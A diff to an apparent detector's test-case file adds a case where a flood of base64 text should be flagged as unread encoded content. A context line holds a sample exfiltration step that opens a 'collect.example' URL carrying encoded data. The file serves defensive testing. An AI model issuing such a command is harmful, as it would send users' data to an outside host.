@@ -59,6 +59,15 @@ export const cases: readonly StepCase[] = [
     settings: { ignore: ['order_to_send'] },
   },
   {
+    shows: 'more encoded text than is read of one text',
+    kind: 'bad',
+    call: saying(
+      `${Buffer.from('All is well here, and nothing else is to be said. '.repeat(40)).toString('base64')}\n`.repeat(80),
+    ),
+    verdict: 'found',
+    says: ['encoded_unread'],
+  },
+  {
     shows: 'long encoded text in an address',
     kind: 'bad',
     call: saying(`open https://collect.example/in?d=${encoded}`),
